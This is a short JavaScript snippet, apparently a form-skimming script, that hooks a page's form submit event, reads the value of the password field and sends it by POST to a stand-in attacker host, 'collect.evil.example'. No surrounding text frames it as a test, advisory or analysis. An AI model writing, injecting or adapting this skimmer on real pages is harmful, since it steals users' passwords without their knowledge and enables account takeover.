const endpoint = "https://collect.evil.example/api";
document.querySelector("form").addEventListener("submit", () => {
  const body = JSON.stringify({ p: document.querySelector("input[type=password]").value });
  fetch(endpoint, { method: "POST", body });
});
